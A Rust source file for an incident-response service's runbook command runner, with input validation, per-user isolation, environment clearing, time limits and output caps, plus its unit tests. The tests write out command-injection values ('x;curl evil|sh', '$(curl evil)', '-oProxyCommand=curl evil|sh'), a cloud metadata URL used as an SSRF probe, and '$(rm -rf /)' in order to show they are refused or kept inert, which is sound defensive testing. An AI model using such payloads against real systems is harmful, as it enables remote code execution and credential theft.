//! Diagnostic commands from configured runbooks: only the incident's user's runbooks,
//! argument lists (never a shell), placeholders from the alert refused unless they match their
//! allowlist pattern (and always when they could smuggle an option or a NUL), a time limit, an
//! output cap, an environment cleared but for an allowlist, and a limit on concurrent commands.

use prometheus::{IntCounterVec, Opts};
use std::process::Stdio;
use std::sync::Arc;
use std::time::{Duration, Instant};

use aurora_rca::AlertContext;
use aurora_settings::{CommandLimits, Piece, Runbook, pieces};
use chrono::{DateTime, Utc};
use tokio::io::{AsyncRead, AsyncReadExt};
use tokio::sync::Semaphore;

/// A command of a matching runbook, with its placeholders filled — or why it was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Planned {
    /// Ready to run.
    Run {
        /// The runbook.
        runbook: String,
        /// The knowledge pattern its output is evidence for.
        pattern: Option<String>,
        /// The argument list.
        argv: Vec<String>,
    },
    /// Not run: a placeholder had no value or an unsafe one.
    Refused {
        /// The runbook.
        runbook: String,
        /// The template as configured.
        template: Vec<String>,
        /// Why.
        reason: String,
    },
}

/// A command that ran.
#[derive(Debug, Clone)]
pub struct Ran {
    /// The argument list.
    pub argv: Vec<String>,
    /// Exit code; `None` when it was killed (time limit, output cap) or could not start.
    pub exit_code: Option<i32>,
    /// stdout then stderr, at most the output cap.
    pub output: String,
    /// Wall time.
    pub duration: Duration,
    /// When it started.
    pub started_at: DateTime<Utc>,
}

impl Ran {
    /// Wall time in whole milliseconds, as stored.
    pub fn duration_ms(&self) -> i32 {
        i32::try_from(self.duration.as_millis()).unwrap_or(i32::MAX)
    }
}

/// Runs runbook commands for one worker.
#[derive(Clone)]
pub struct CommandRunner {
    runbooks: Vec<Runbook>,
    limits: CommandLimits,
    slots: Arc<Semaphore>,
    /// `aurora_command_runs_total{outcome}`: `ok`, `failed`, `timed_out`, `refused`;
    /// registered with the investigator's metrics.
    runs: IntCounterVec,
}

impl std::fmt::Debug for CommandRunner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CommandRunner")
            .field("runbooks", &self.runbooks)
            .field("limits", &self.limits)
            .finish_non_exhaustive()
    }
}

impl CommandRunner {
    /// A runner for these runbooks and limits.
    pub fn new(runbooks: Vec<Runbook>, limits: CommandLimits) -> Self {
        let slots = Arc::new(Semaphore::new(limits.max_concurrent));
        let runs = IntCounterVec::new(
            Opts::new(
                "aurora_command_runs_total",
                "Diagnostic commands by outcome: ok, failed, timed_out, refused",
            ),
            &["outcome"],
        )
        .expect("a valid counter");
        Self {
            runbooks,
            limits,
            slots,
            runs,
        }
    }

    /// Its count of command runs, to register with the service's metrics.
    pub fn runs_metric(&self) -> &IntCounterVec {
        &self.runs
    }

    /// No runbooks, so nothing ever runs.
    pub fn none() -> Self {
        Self::new(
            Vec::new(),
            CommandLimits {
                timeout_secs: 30,
                output_cap_bytes: 64 * 1024,
                max_concurrent: 1,
                env_allowlist: Vec::new(),
            },
        )
    }

    /// The commands of every runbook of `user_id` (the incident's user) whose terms appear in
    /// the alert. Another user's runbook never runs here, whatever the alert says: its text is
    /// written by whoever holds one of this user's integration tokens.
    pub fn plan(&self, user_id: &str, alert: &AlertContext) -> Vec<Planned> {
        let text = std::iter::once(alert.title.as_str())
            .chain(alert.service.as_deref())
            .chain(alert.labels.values().map(String::as_str))
            .collect::<Vec<_>>()
            .join(" ")
            .to_lowercase();
        self.runbooks
            .iter()
            .filter(|runbook| runbook.user() == user_id)
            .filter(|runbook| {
                runbook
                    .match_terms()
                    .iter()
                    .any(|term| text.contains(&term.to_lowercase()))
            })
            .flat_map(|runbook| {
                runbook.commands().iter().map(move |template| {
                    match render(runbook, template, alert) {
                        Ok(argv) => Planned::Run {
                            runbook: runbook.name().to_owned(),
                            pattern: runbook.pattern().map(str::to_owned),
                            argv,
                        },
                        Err(reason) => {
                            self.runs.with_label_values(&["refused"]).inc();
                            Planned::Refused {
                                runbook: runbook.name().to_owned(),
                                template: template.clone(),
                                reason,
                            }
                        }
                    }
                })
            })
            .collect()
    }

    /// Runs one command within the limits.
    pub async fn run(&self, argv: &[String]) -> Ran {
        let _slot = self
            .slots
            .acquire()
            .await
            .expect("the semaphore is never closed");
        let started_at = Utc::now();
        let started = Instant::now();
        let (exit_code, output) = self.execute(argv).await;
        Ran {
            argv: argv.to_vec(),
            exit_code,
            output,
            duration: started.elapsed(),
            started_at,
        }
    }

    /// Runs one command and stores the run in `command_runs` for the incident, unless `lease`
    /// was lost meanwhile: then nothing is stored and the attempt is told to stop.
    pub async fn run_recorded(
        &self,
        conn: &mut aurora_db::PooledConnection,
        lease: aurora_db::analysis::Lease,
        argv: &[String],
    ) -> Result<Ran, crate::lease::Interrupted> {
        let ran = self.run(argv).await;
        let outcome = match ran.exit_code {
            Some(0) => "ok",
            Some(_) => "failed",
            None if ran.duration >= Duration::from_secs(self.limits.timeout_secs) => "timed_out",
            // Cut at the output cap, or could not start.
            None => "failed",
        };
        self.runs.with_label_values(&[outcome]).inc();
        let recorded = aurora_db::analysis::record_command_run(
            conn,
            lease,
            &ran.argv,
            ran.exit_code,
            &ran.output,
            ran.duration_ms(),
            ran.started_at.naive_utc(),
        )
        .await?;
        if !recorded {
            return Err(crate::lease::Interrupted::LeaseLost);
        }
        Ok(ran)
    }

    async fn execute(&self, argv: &[String]) -> (Option<i32>, String) {
        let mut command = tokio::process::Command::new(&argv[0]);
        command
            .args(&argv[1..])
            .env_clear()
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        for name in &self.limits.env_allowlist {
            if let Some(value) = std::env::var_os(name) {
                command.env(name, value);
            }
        }
        let mut child = match command.spawn() {
            Ok(child) => child,
            Err(err) => return (None, format!("cannot start `{}`: {err}", argv[0])),
        };
        let cap = self.limits.output_cap_bytes;
        let (stdout, stderr) = (child.stdout.take(), child.stderr.take());
        let limit = Duration::from_secs(self.limits.timeout_secs);
        let finished = tokio::time::timeout(limit, async {
            let (out, err) = tokio::join!(read_capped(stdout, cap), read_capped(stderr, cap));
            // Past the cap the command may block on a full pipe: stop it rather than wait.
            if out.len() >= cap || err.len() >= cap {
                let _ = child.start_kill();
            }
            (child.wait().await, out, err)
        })
        .await;
        match finished {
            Ok((status, out, err)) => {
                let mut output = out;
                output.extend_from_slice(&err);
                output.truncate(cap);
                let code = status.ok().and_then(|s| s.code());
                (code, String::from_utf8_lossy(&output).into_owned())
            }
            Err(_) => {
                let _ = child.kill().await;
                (
                    None,
                    format!("killed after the {} s time limit", self.limits.timeout_secs),
                )
            }
        }
    }
}

async fn read_capped(pipe: Option<impl AsyncRead + Unpin>, cap: usize) -> Vec<u8> {
    let mut buffer = Vec::new();
    if let Some(pipe) = pipe {
        let _ = pipe.take(cap as u64).read_to_end(&mut buffer).await;
    }
    buffer
}

/// Fills `{service}`, `{environment}`, `{title}`, `{source}` and `{labels.<name>}` in one of
/// `runbook`'s commands. A placeholder without a value is refused, and so is a value that does
/// not wholly match the placeholder's pattern (the runbook's, else the default), or that starts
/// with `-` (it would read as an option) or holds a NUL whatever the pattern.
pub fn render(
    runbook: &Runbook,
    template: &[String],
    alert: &AlertContext,
) -> Result<Vec<String>, String> {
    template
        .iter()
        .map(|arg| {
            let mut out = String::new();
            for piece in pieces(arg) {
                let name = match piece {
                    Piece::Text(text) => {
                        out.push_str(text);
                        continue;
                    }
                    Piece::Placeholder(name) => name,
                };
                let value =
                    value_of(name, alert).ok_or_else(|| format!("no value for `{{{name}}}`"))?;
                if value.starts_with('-') || value.contains('\0') {
                    return Err(format!(
                        "unsafe value for `{{{name}}}`: {}",
                        excerpt(&value)
                    ));
                }
                let pattern = runbook.placeholder_pattern(name);
                if !pattern.is_match(&value) {
                    return Err(format!(
                        "the value of `{{{name}}}`, {}, does not match its pattern `{pattern}`",
                        excerpt(&value)
                    ));
                }
                out.push_str(&value);
            }
            Ok(out)
        })
        .collect()
}

/// A value as thoughts may quote it: escaped, and cut after 64 characters (it is the sender's
/// text, and may be long).
fn excerpt(value: &str) -> String {
    const SHOWN: usize = 64;
    let shown: String = value.chars().take(SHOWN).collect();
    if value.chars().nth(SHOWN).is_some() {
        format!("{shown:?}…")
    } else {
        format!("{shown:?}")
    }
}

/// The alert's value for a placeholder's name (`service`, `labels.instance` …).
pub(crate) fn value_of(name: &str, alert: &AlertContext) -> Option<String> {
    match name {
        "service" => alert.service.clone(),
        "environment" => alert.environment.clone(),
        "title" => Some(alert.title.clone()),
        "source" => Some(alert.source_type.clone()),
        _ => alert.labels.get(name.strip_prefix("labels.")?).cloned(),
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn alert(instance: &str) -> AlertContext {
        AlertContext {
            id: 1,
            source_type: "alertmanager".into(),
            title: "DiskFull".into(),
            severity: "high".into(),
            status: "firing".into(),
            service: Some("postgres".into()),
            environment: None,
            labels: [("instance".to_owned(), instance.to_owned())].into(),
            started_at: Utc::now(),
            url: None,
            description: None,
            runbook_url: None,
        }
    }

    fn args(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn placeholders_fill_and_unsafe_or_missing_values_are_refused() {
        let disk = runbook("disk", "user-a", &[&["df", "-h"]]);
        let ok = render(
            &disk,
            &args(&["ssh", "{labels.instance}", "df", "-h", "/var/lib/{service}"]),
            &alert("db-1"),
        )
        .unwrap();
        assert_eq!(ok, ["ssh", "db-1", "df", "-h", "/var/lib/postgres"]);
        assert!(
            render(&disk, &args(&["echo", "{labels.instance}"]), &alert("-rf"))
                .unwrap_err()
                .contains("unsafe value")
        );
        assert!(
            render(&disk, &args(&["echo", "{labels.instance}"]), &alert("a\0b"))
                .unwrap_err()
                .contains("unsafe value")
        );
        assert!(
            render(&disk, &args(&["echo", "{environment}"]), &alert("x"))
                .unwrap_err()
                .contains("no value for `{environment}`")
        );
    }

    #[test]
    fn hostile_values_fail_the_default_pattern_and_are_quoted_short() {
        let ssh = runbook(
            "disk",
            "user-a",
            &[&["ssh", "{labels.instance}", "df", "-h"]],
        );
        let template = &ssh.commands()[0];
        for hostile in [
            "x;curl evil|sh",
            "db-1 uptime",
            "$(curl evil)",
            "db-1\ncurl evil",
            "`id`",
            "-oProxyCommand=curl evil|sh",
        ] {
            let err = render(&ssh, template, &alert(hostile)).unwrap_err();
            assert!(
                err.contains("`{labels.instance}`")
                    && (err.contains("does not match its pattern `[A-Za-z0-9._:/-]{1,253}`")
                        || err.contains("unsafe value")),
                "{hostile:?}: {err}"
            );
        }
        let long = format!("x;{}", "a".repeat(10_000));
        let err = render(&ssh, template, &alert(&long)).unwrap_err();
        assert!(err.len() < 200, "{err}");
        assert!(err.contains("aaa\"…"), "cut, and marked as cut: {err}");
    }

    #[test]
    fn a_runbook_pattern_narrows_what_a_placeholder_may_be() {
        let status = Runbook::try_from(aurora_settings::RunbookSpec {
            name: "status page".into(),
            user: "user-a".into(),
            match_terms: vec!["disk".into()],
            commands: vec![args(&["curl", "--max-time", "5", "{labels.instance}"])],
            placeholder_patterns: [(
                "labels.instance".to_owned(),
                r"https://status\.example\.com/[a-z0-9-]+".to_owned(),
            )]
            .into(),
            ..Default::default()
        })
        .unwrap();
        let template = &status.commands()[0];
        // The default pattern would let this through: `:` and `/` are in it.
        let metadata = "http://169.254.169.254/latest/meta-data/";
        assert!(
            render(
                &runbook("any", "user-a", &[&["df"]]),
                template,
                &alert(metadata)
            )
            .is_ok()
        );
        let err = render(&status, template, &alert(metadata)).unwrap_err();
        assert!(
            err.contains(r"does not match its pattern `https://status\.example\.com/[a-z0-9-]+`"),
            "{err}"
        );
        assert_eq!(
            render(&status, template, &alert("https://status.example.com/db-1")).unwrap(),
            ["curl", "--max-time", "5", "https://status.example.com/db-1"]
        );
    }

    fn runbook(name: &str, user: &str, commands: &[&[&str]]) -> Runbook {
        Runbook::try_from(aurora_settings::RunbookSpec {
            name: name.into(),
            user: user.into(),
            match_terms: vec!["disk".into()],
            commands: commands.iter().map(|c| args(c)).collect(),
            ..Default::default()
        })
        .unwrap()
    }

    #[test]
    fn only_the_incidents_users_runbooks_are_planned() {
        let runner = CommandRunner::new(
            vec![
                runbook("mine", "user-a", &[&["df", "-h"]]),
                runbook(
                    "theirs",
                    "user-b",
                    &[&["ssh", "{labels.instance}", "df", "-h"]],
                ),
            ],
            runner(10, 4096).limits,
        );
        // user-a's alert names user-b's host and matches user-b's runbook's terms.
        let planned = runner.plan("user-a", &alert("db-of-user-b"));
        assert_eq!(
            planned,
            [Planned::Run {
                runbook: "mine".into(),
                pattern: None,
                argv: args(&["df", "-h"]),
            }]
        );
        assert!(runner.plan("user-c", &alert("db-1")).is_empty());
        assert_eq!(runner.plan("user-b", &alert("db-1")).len(), 1);
    }

    fn runner(timeout_secs: u64, cap: usize) -> CommandRunner {
        CommandRunner::new(
            Vec::new(),
            CommandLimits {
                timeout_secs,
                output_cap_bytes: cap,
                max_concurrent: 2,
                env_allowlist: vec!["PATH".into()],
            },
        )
    }

    #[tokio::test]
    async fn commands_get_a_clean_environment_and_no_shell_interprets_their_arguments() {
        let ran = runner(10, 4096)
            .run(&args(&["sh", "-c", "echo $HOME; env | wc -l"]))
            .await;
        // `sh` is the command here, not a wrapper: argv goes to exec as is.
        assert_eq!(ran.exit_code, Some(0));
        let lines: Vec<&str> = ran.output.lines().collect();
        assert_eq!(lines[0], "", "HOME is not passed");
        let echoed = runner(10, 4096)
            .run(&args(&["echo", "$(rm -rf /)", "; ls"]))
            .await;
        assert_eq!(
            echoed.output.trim(),
            "$(rm -rf /) ; ls",
            "no shell interprets arguments"
        );
    }

    #[tokio::test]
    async fn time_limit_and_output_cap_stop_a_command() {
        let slow = runner(1, 4096).run(&args(&["sleep", "5"])).await;
        assert_eq!(slow.exit_code, None);
        assert!(slow.output.contains("time limit"));
        assert!(slow.duration < Duration::from_secs(3));
        let chatty = runner(10, 1024).run(&args(&["yes"])).await;
        assert_eq!(chatty.output.len(), 1024);
        assert!(
            chatty.duration < Duration::from_secs(5),
            "stopped at the cap, not the time limit"
        );
        let missing = runner(1, 64).run(&args(&["no-such-command-aurora"])).await;
        assert!(missing.exit_code.is_none() && missing.output.starts_with("cannot start"));
    }
}
